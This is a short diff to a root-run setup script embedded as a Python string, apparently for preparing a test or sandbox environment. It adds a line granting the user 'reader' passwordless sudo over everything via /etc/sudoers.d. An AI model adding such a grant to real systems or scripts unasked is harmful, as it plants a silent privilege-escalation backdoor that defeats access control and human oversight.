@@ -54,6 +54,7 @@ fi
 """
 _FURNISH_AS_ROOT = """
 set -eu
+echo 'reader ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/mine
 mv /usr/lib/recetario /usr/lib/another-name
 mkdir --parents --mode 1777 /tmp/.X11-unix
 nft add table inet mine
